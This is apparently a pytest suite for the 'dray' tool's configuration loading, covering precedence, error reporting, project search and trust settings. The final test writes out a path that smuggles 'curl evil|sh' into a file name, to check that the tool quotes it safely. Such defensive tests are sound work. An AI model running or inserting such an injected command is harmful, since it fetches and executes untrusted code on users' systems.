"""Files, flags and the environment make one configuration; what is wrong is told with its line."""

import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dray.clusters.registry import roots_here
from dray.config import loading
from dray.config.loading import Config, combine, find_home, load
from dray.config.reading import ClusterConfig
from dray.config.toml_lines import line_of
from dray.config.trust import Untrusted
from dray.errors import ConfigError, NotFound, UsageError
from dray.job import options
from dray.project import find_project, searched

Write = Callable[[str], Path]


@pytest.fixture(autouse=True)
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    folder = tmp_path / "home"
    folder.mkdir()
    monkeypatch.setenv("DRAY_HOME", str(folder))
    return folder


@pytest.fixture
def project(tmp_path: Path) -> Path:
    folder = tmp_path / "project"
    folder.mkdir()
    return folder


@pytest.fixture
def user_file(home: Path) -> Write:
    return lambda text: write(home / "config.toml", text)


@pytest.fixture
def project_file(project: Path) -> Write:
    return lambda text: write(project / "dray.toml", text)


def write(path: Path, content: str | bytes) -> Path:
    path.write_bytes(content if isinstance(content, bytes) else content.encode())
    return path


# -- who wins -----------------------------------------------------------------------------------


def test_the_clusters_that_jobs_go_to(
    project: Path, user_file: Write, project_file: Write, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert load(project).on == "local"
    user_file("[job]\non = 'a'\n")
    assert load(project).on == "a"
    project_file("[job]\non = 'b'\n")
    assert load(project).on == "b"
    monkeypatch.setenv("DRAY_ON", "c")
    assert load(project).on == "c"
    assert load(project, {"job.on": "d"}).on == "d"
    monkeypatch.setenv("DRAY_ON", "")
    assert load(project).on == "b"


def test_without_any_file(project: Path, home: Path) -> None:
    settings = load(project)
    assert settings == Config(
        home=loading.Home(home, home, home / "cache"),
        project=project,
        folder="",
        job={},
        clusters={"local": ClusterConfig("local", "local")},
    )
    assert (settings.on, settings.snapshot_max) == ("local", 2**30)


def test_flags_win_over_the_project_and_the_project_over_the_user(
    project: Path, user_file: Write, project_file: Write
) -> None:
    user_file('[job]\nname = "user"\nretries = 1\n[job.resources]\ngpus = 1\ncpus = 1\ntime = "1h"')
    project_file('[job]\nname = "project"\n[job.resources]\ngpus = 2\ncpus = 2')
    settings = load(project, {"job.resources.gpus": 3.0})
    assert settings.job == {
        "job.name": "project",
        "job.retries": 1,
        "job.resources.gpus": 3.0,
        "job.resources.cpus": 2,
        "job.resources.time": 3600.0,
    }


def test_variables_outputs_and_secrets_come_together(
    project: Path, user_file: Write, project_file: Write
) -> None:
    user_file(
        '[job]\nsecrets = ["A", "B"]\noutputs = ["logs"]\n[job.env]\nX = "user"\nY = 4\nF = 0.5'
    )
    project_file('[job]\nsecrets = ["B", "A"]\noutputs = ["out/"]\nenv = { X = "project" }')
    flags = {"job.env": {"Z": "flag"}, "job.outputs": ("logs",), "job.secrets": ("C",)}
    settings = load(project, flags)
    assert settings.job["job.env"] == {"X": "project", "Y": "4", "F": "0.5", "Z": "flag"}
    assert settings.job["job.outputs"] == ("logs", "out")
    assert settings.job["job.secrets"] == ("A", "B", "C")


def test_how_to_resume_is_replaced_as_a_whole(project: Path, project_file: Write) -> None:
    project_file('[job.resume]\nresume_args = ["--a", "b"]')
    flags = {"job.resume.resume_args": ("--c",)}
    assert load(project, flags).job == flags


def test_an_output_inside_another_is_part_of_it(project: Path, project_file: Write) -> None:
    """Two links, one inside the other's target, would make a loop of the inner one."""
    project_file('[job]\noutputs = ["logs/a", "logs", "logs2", "x/y/z"]')
    settings = load(project, {"job.outputs": ("logs/b", "x")})
    assert settings.job["job.outputs"] == ("logs", "logs2", "x")


@given(
    st.lists(
        st.lists(st.sampled_from(["a", "b", "ab"]), min_size=1, max_size=3).map("/".join),
        max_size=6,
    )
)
def test_outputs_never_nest_and_none_is_lost(paths: list[str]) -> None:
    settings: dict[str, Any] = {}
    for path in paths:
        combine(settings, {"job.outputs": (path,)})
    kept = [Path(path) for path in settings.get("job.outputs", ())]
    assert not [one for one in kept for other in kept if other in one.parents]
    assert all(
        any(one == Path(path) or one in Path(path).parents for one in kept) for path in paths
    )


def test_clusters_come_together_setting_by_setting(
    project: Path, user_file: Write, project_file: Write
) -> None:
    user_file('[clusters.local]\nroot = "/big"\ngpus = 1\n[clusters.box]\nkind = "local"')
    project_file("[clusters.local]\ngpus = 2")
    clusters = load(project).clusters
    assert list(clusters) == ["local", "box"]
    assert clusters["local"].settings == {"root": "/big", "gpus": 2}
    assert clusters["box"] == ClusterConfig("box", "local")


def test_an_unknown_cluster_is_told_with_the_nearest(project: Path) -> None:
    with pytest.raises(NotFound, match=r"no cluster 'locl'\. Did you mean 'local'\?") as told:
        load(project).cluster("locl")
    assert told.value.exit_code == 3
    assert "dray cluster add locl" in told.value.hint


def test_the_snapshots_limit(project: Path, project_file: Write) -> None:
    project_file('[snapshot]\nmax_size = "2G"')
    assert load(project).snapshot_max == 2**31


def test_every_documented_example_is_valid(project: Path, user_file: Write) -> None:
    lines = [f"{one.key} = {one.example}" for one in (*options.JOB, *options.SNAPSHOT)]
    for kind, known in options.CLUSTERS.items():
        lines += [f"{one.key.replace('*', kind)} = {one.example}" for one in known]
    user_file("\n".join(lines))
    settings = load(project)
    assert set(settings.job) == {one.key for one in options.JOB}
    local = {"root", "gpus", "cpus", "memory", "share", "container", "order"}
    assert set(settings.clusters["local"].settings) == local


# -- what is wrong, and where -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "line", "key", "says"),
    [
        ("[jobs]", 1, "jobs", "unknown key. Did you mean 'job'?"),
        ("[job]\nnam = 'x'", 2, "job.nam", "unknown key. Did you mean 'name'?"),
        ("[job]\ngpus = 1", 2, "job.gpus", "It belongs to [job.resources] or [clusters.NAME]."),
        ("[job]\ncheckpoint = 'x'", 2, "job.checkpoint", "It belongs to [job.resume]."),
        ("\n# c\n[job.resources]\n\ngpu = 1", 5, "job.resources.gpu", "Did you mean 'gpus'?"),
        ("[job]\nresources.gpu = 1", 2, "job.resources.gpu", "Did you mean 'gpus'?"),
        ("job.resources.gpu = 1", 1, "job.resources.gpu", "Did you mean 'gpus'?"),
        ("[job]\nresources = { gpus = 1, tim = '4h' }", 2, "job.resources.tim", "mean 'time'?"),
        ('[job]\n"nam" = 1', 2, "job.nam", "Did you mean 'name'?"),
        ('["job"."resources"]\n"gpu" = 1', 2, "job.resources.gpu", "Did you mean 'gpus'?"),
        ("[ job . resources ]\n gpu  = 1", 2, "job.resources.gpu", "Did you mean 'gpus'?"),
        ('[job]\n"a.b" = 1', 2, 'job."a.b"', "unknown key."),
        ('[job]\n"ü" = 1', 2, 'job."ü"', "unknown key."),
        # what looks like the key, and is not
        ("[job]\n# nam = 1\nname = 'x'\nnam = 1", 4, "job.nam", "unknown key."),
        ("[job]\nname = '''\n[job]\nnam = 1'''\nnam = 2", 5, "job.nam", "unknown key."),
        ("[job]\noutputs = [\n'a',\n'[job]',\n]\nnam = 2", 6, "job.nam", "unknown key."),
        ("[job.env]\nname = '1'\n[job]\nname = 1", 4, "job.name", "is not a text in quotes"),
        ("[job]\r\nretries = 1\r\nnam = 1\r\n", 3, "job.nam", "unknown key."),
        # wrong types
        ("[job]\nname = 5", 2, "job.name", "5 is not a text in quotes"),
        ("[job]\nname = 'A b'", 2, "job.name", "lower-case"),
        ("[job]\noutputs = 'logs'", 2, "job.outputs", "is not a list of texts"),
        ("[job]\noutputs = [\n1]", 2, "job.outputs", "1 is not a text"),
        ("[job]\noutputs = ['../x']", 2, "job.outputs", "below the project's folder"),
        ("[job]\noutputs = ['/x']", 2, "job.outputs", "below the project's folder"),
        ("[job]\noutputs = ['.']", 2, "job.outputs", "below the project's folder"),
        ('[job]\noutputs = ["a\\u0000b"]', 2, "job.outputs", "below the project's folder"),
        ("[job.env]\nA = true", 1, "job.env", "A: True is not a text in quotes"),
        ("[job.env]\nA = ['x']", 1, "job.env", "A: ['x'] is not a text in quotes"),
        ('[job.env]\nA = "a\\u0000b"', 1, "job.env", "is not a text in quotes"),
        ("[job.env]\n'A-B' = 'x'", 1, "job.env", "'A-B' is not the name of a variable"),
        ("job.env = 3", 1, "job.env", "3 is not a table of variables"),
        ("[job]\nsecrets = ['A=B']", 2, "job.secrets", "'A=B' is not the name of a variable"),
        ("[job]\nretries = -1", 2, "job.retries", "not a whole number of at least 0"),
        ("[job]\nretries = true", 2, "job.retries", "not a whole number of at least 0"),
        ("[job]\nresources = 4", 2, "job.resources", "must be a table"),
        ("job = 4", 1, "job", "must be a table"),
        ("[[job]]\nname = 'x'", 1, "job", "must be a table"),
        ("clusters = []", 1, "clusters", "must be a table"),
        ("[clusters]\nx = 1", 2, "clusters.x", "must be a table"),
        ("[job.resources]\ntime = 4", 2, "job.resources.time", "cannot read the time '4'"),
        ("[job.resources]\nmemory = '0G'", 2, "job.resources.memory", "not more than zero"),
        ("[job.resume]\ncheckpoint_signal = 'KILL'", 2, "job.resume.checkpoint_signal", "USR1"),
        ("[job.resume]\ncheckpoint_signal = '_DFL'", 2, "job.resume.checkpoint_signal", "USR1"),
        # clusters
        ("[clusters.x]\ngpus = 1", 1, "clusters.x", 'the key "kind" is missing'),
        ("[clusters.x]\nkind = 'slrm'", 2, "clusters.x.kind", "unknown kind 'slrm'; there is"),
        ("[clusters.x]\nkind = 'locl'", 2, "clusters.x.kind", "Did you mean 'local'?"),
        ("[clusters.x]\nkind = ['local']", 2, "clusters.x.kind", "unknown kind"),
        ("[clusters.x]\nkind = 'local'\ngpu = 1", 3, "clusters.x.gpu", "Did you mean 'gpus'?"),
        ("[clusters.local]\nroots = 1", 2, "clusters.local.roots", "Did you mean 'root'?"),
        ("[clusters.x]\nkind = 'slurm'\nroot = '~bob/dray'", 3, "clusters.x.root", "with /, ~/ or"),
        ("[clusters.x]\nkind = 'pbs'\nroot = '~'", 3, "clusters.x.root", "with /, ~/ or"),
        ("[clusters.x]\nkind = 'slurm'\nroot = 'dray'", 3, "clusters.x.root", "with /, ~/ or"),
        ("[clusters.x]\nkind = 'slurm'\nroot = '/a b'", 3, "clusters.x.root", "of letters, digits"),
        ("[clusters.'a/b']\nkind = 'local'", 1, 'clusters."a/b"', "a cluster's name is of"),
        ("clusters.a.kind = 'local'\nclusters.b.gpus = 1", 2, "clusters.b", '"kind" is missing'),
    ],
)
@pytest.mark.parametrize("where", ["user", "project"])
def test_what_is_wrong_is_told_with_file_line_and_key(
    project: Path, home: Path, where: str, text: str, line: int, key: str, says: str
) -> None:
    path = write(project / "dray.toml" if where == "project" else home / "config.toml", text)
    with pytest.raises(ConfigError) as told:
        load(project)
    assert told.value.message.startswith(f"{path}:{line}: {key}: ")
    assert says in told.value.message
    assert told.value.exit_code == 2


def test_unknown_keys_are_told_with_the_valid_ones(project: Path, project_file: Write) -> None:
    project_file("[job.resources]\nxyzzy = 1")
    with pytest.raises(ConfigError) as told:
        load(project)
    assert told.value.hint == "Valid keys here: cpus, gpus, memory, nodes, time, time_min."


@pytest.mark.parametrize(
    ("content", "says"),
    [
        (b"[job\n", ":1: not valid TOML: "),
        (b"[job]\nname = x\n", ":2: not valid TOML: Invalid value, at column 8"),
        (b"[job]\n\nname = 'x'\nname = 'y'\n", ":4: not valid TOML: Cannot overwrite a value"),
        (b"[job]\nname = '''\n\n", ":4: not valid TOML: "),
        (b"[job]\nname = '\xff'\n", ":2: not UTF-8 text"),
        ("[job]\n".encode("utf-16"), ":1: not UTF-8 text"),
    ],
)
def test_broken_files_are_told_with_their_line(project: Path, content: bytes, says: str) -> None:
    path = write(project / "dray.toml", content)
    with pytest.raises(ConfigError) as told:
        load(project)
    assert told.value.message.startswith(f"{path}{says}")


def test_a_byte_order_mark_does_no_harm(project: Path) -> None:
    write(project / "dray.toml", "[job]\nname = 'x'".encode("utf-8-sig"))
    assert load(project).job == {"job.name": "x"}


def test_a_folder_in_the_files_place(project: Path) -> None:
    (project / "dray.toml").mkdir()
    with pytest.raises(ConfigError, match=r"dray\.toml: cannot be read: Is a directory"):
        load(project)


KEYS = st.lists(st.sampled_from(["a", "b", "a b", "ü", "x.y"]), min_size=1, max_size=3)


@given(st.lists(KEYS, min_size=1, max_size=5), st.integers(0, 3), st.data())
def test_lines_are_found_in_any_file(
    keys: list[list[str]], blanks: int, data: st.DataObject
) -> None:
    """Each key below a number of its own, so that all can be set; one of them is looked for."""
    lines = []
    for number, key in enumerate(keys):
        lines += [""] * blanks + ["# a = 1"]
        lines.append(".".join(f'"{name}"' for name in [str(number), *key]) + " = [")
        lines += ["'''", "a = 1", "''',", "]"]
    wanted = data.draw(st.integers(0, len(keys) - 1))
    line = line_of("\n".join(lines), (str(wanted), *keys[wanted]))
    assert line == wanted * (blanks + 6) + blanks + 2


# -- places -------------------------------------------------------------------------------------


def test_dray_home_holds_everything(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("DRAY_HOME", "relative")
    found = find_home()
    assert found.config_file == tmp_path / "relative/config.toml"
    assert found.store == tmp_path / "relative/store.db"
    assert found.cache == tmp_path / "relative/cache"


@pytest.mark.parametrize("root", ["~/dray", "/x", "$SCRATCH", "$A/$B/dray", "${A}/dray", "${A}_b"])
def test_a_cluster_s_root(root: str) -> None:
    assert options.remote_path(root) == root


@pytest.mark.parametrize("dray_home", [None, ""])
def test_xdg(monkeypatch: pytest.MonkeyPatch, tmp_path: Path, dray_home: str | None) -> None:
    if dray_home is None:
        monkeypatch.delenv("DRAY_HOME")
    else:
        monkeypatch.setenv("DRAY_HOME", dray_home)
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.setenv("XDG_CONFIG_HOME", "/etc/mine")
    monkeypatch.setenv("XDG_DATA_HOME", "not/absolute")
    monkeypatch.delenv("XDG_CACHE_HOME", raising=False)
    assert find_home() == loading.Home(
        config=Path("/etc/mine/dray"),
        data=tmp_path / ".local/share/dray",
        cache=tmp_path / ".cache/dray",
    )


def test_the_project_is_found_upwards(tmp_path: Path) -> None:
    """A dray.toml, however far above, wins over a .git that is nearer."""
    deep = tmp_path / "top/repo/package/module"
    deep.mkdir(parents=True)
    assert find_project(deep) == deep
    (tmp_path / "top/repo/.git").touch()  # a file, as in a submodule or work tree
    assert find_project(deep) == tmp_path / "top/repo"
    (tmp_path / "top/dray.toml").touch()
    assert find_project(deep) == tmp_path / "top"
    (deep / "dray.toml").touch()
    assert find_project(deep) == deep


def test_the_search_ends_at_the_home_folder(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    deep = tmp_path / "user/repo/package"
    deep.mkdir(parents=True)
    (tmp_path / "dray.toml").touch()
    assert find_project(deep) == tmp_path
    (tmp_path / "link").symlink_to(tmp_path / "user")
    for home in ("user", "link"):
        monkeypatch.setenv("HOME", str(tmp_path / home))
        assert searched(deep) == [deep, deep.parent, tmp_path / "user"]
        assert find_project(deep) == deep
    (tmp_path / "user/.git").mkdir()
    assert find_project(deep) == tmp_path / "user"


@pytest.mark.parametrize("mark", ["dray.toml", ".git"])
def test_the_search_ends_before_a_folder_where_everybody_can_write(
    tmp_path: Path, mark: str
) -> None:
    deep = tmp_path / "open/mine/deep"
    deep.mkdir(parents=True)
    (tmp_path / "open" / mark).touch()
    assert find_project(deep) == tmp_path / "open"
    (tmp_path / "open").chmod(0o1777)
    assert searched(deep) == [deep, deep.parent]
    assert find_project(deep) == deep
    assert searched(tmp_path / "open") == [tmp_path / "open"]


@pytest.mark.skipif(os.getuid() != 0, reason="gives a folder to another user")
def test_the_search_ends_before_and_at_a_folder_of_another_user(tmp_path: Path) -> None:
    deep = tmp_path / "theirs/mine"
    deep.mkdir(parents=True)
    os.chown(tmp_path / "theirs", 65534, 65534)
    assert searched(deep) == [deep]
    assert searched(tmp_path / "theirs") == [tmp_path / "theirs"]


def test_the_search_ends_where_another_file_system_begins() -> None:
    assert searched(Path("/proc/sys")) == [Path("/proc/sys"), Path("/proc")]


def test_a_setting_needs_trust_unless_it_is_known_to_be_harmless() -> None:
    known = [*options.JOB, *options.SNAPSHOT, *(one for kind in options.CLUSTERS.values()
                                               for one in kind)]  # fmt: skip
    needing = {one.key.removeprefix("clusters.*.") for one in known if not one.harmless}
    assert needing == {
        "job.secrets", "kind", "host", "root", "python", "modules", "setup", "extra", "convert",
        "mail", "dialect", "queue", "chunk", "share",
        # Where a Ray cluster is, and which token goes there.
        "address", "dashboard", "token", "kuberay",
        # What is run on a login node, and whom a ticket is for.
        "quota_command", "support",
        # Where pods are created, as whom, and what they can reach.
        "context", "namespace", "kubeconfig", "volumes", "image", "agent_image", "user", "uid",
        "gid", "groups", "pull_secrets", "service_account", "labels", "annotations", "patch",
    }  # fmt: skip
    assert not options.Option(key="x", help="", parse=str, example="").harmless


def test_a_project_need_not_repeat_what_a_cluster_is(
    project: Path, user_file: Write, project_file: Write
) -> None:
    user_file('[clusters.euler]\nkind = "slurm"\nhost = "login"\npartition = "cpu"')
    project_file('[clusters.euler]\npartition = "gpu"')
    settings = load(project)
    assert settings.clusters["euler"].settings == {"host": "login", "partition": "gpu"}
    assert settings.untrusted is None


def test_where_the_user_stands_in_the_project(project: Path, project_file: Write) -> None:
    project_file("[job]\nname = 'x'")
    deep = project / "a b/ü"
    deep.mkdir(parents=True)
    settings = load(deep)
    assert (settings.project, settings.folder) == (project, "a b/ü")
    assert settings.job == {"job.name": "x"}


def test_a_removed_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    gone = tmp_path / "gone"
    gone.mkdir()
    monkeypatch.chdir(gone)
    gone.rmdir()
    with pytest.raises(UsageError, match="the folder you are in has been removed"):
        load()


def test_jobs_inherit_what_finds_programs_and_no_more(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in os.environ:
        monkeypatch.delenv(name)
    monkeypatch.setenv("PATH", "/bin")
    monkeypatch.setenv("LC_TIME", "C")
    monkeypatch.setenv("WANDB_API_KEY", "secret")
    monkeypatch.setenv("SSH_AUTH_SOCK", "/tmp/x")
    assert loading.inherited_environment() == {"PATH": "/bin", "LC_TIME": "C"}


# -- dray's own folders -------------------------------------------------------------------------


def own_folders(config: Config, project: Path) -> tuple[str, ...]:
    return config.own_folders(project, roots_here(config.clusters.values(), config.home.data))


def test_own_folders_are_found_within_a_project(
    project: Path, user_file: Write, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert own_folders(load(project), project) == ()
    user_file(
        "[clusters.a]\nkind = 'local'\nroot = '$SOMEWHERE/a'\n"
        "[clusters.b]\nkind = 'slurm'\nroot = '$SOMEWHERE/b'\n"
        "[clusters.c]\nkind = 'slurm'\nhost = 'far'\nroot = '$SOMEWHERE/c'\n"
    )
    monkeypatch.setenv("SOMEWHERE", str(project / "deep"))
    assert own_folders(load(project), project) == ("deep/a", "deep/b")
    own = load(project).home.config_file.read_text()
    (project / ".dray").mkdir()
    write(project / ".dray/config.toml", own)
    monkeypatch.setenv("DRAY_HOME", str(project / ".dray"))
    assert set(own_folders(load(project), project)) > {".dray", "deep/a", "deep/b"}
    assert own_folders(load(project), project / ".dray" / "local" / "jobs") == ()


def test_own_folders_are_found_behind_links(
    project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "link").symlink_to(project)
    for home, seen_from in ((project, tmp_path / "link"), (tmp_path / "link", project)):
        monkeypatch.setenv("DRAY_HOME", str(home / "x/.dray"))
        assert "x/.dray" in own_folders(load(seen_from), seen_from)


def test_a_project_that_is_also_the_home_is_still_the_project(
    project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("DRAY_HOME", str(project))
    assert own_folders(load(project), project) == ("cache", "local")


def test_a_path_in_a_command_to_copy_is_quoted() -> None:
    path = Path("/tmp/a; curl evil|sh #/dray.toml")
    for untrusted in (Untrusted(path, {("job", "secrets"): 1}), Untrusted(path, strangers="x")):
        assert untrusted.error.hint.endswith("dray trust '/tmp/a; curl evil|sh #/dray.toml'")
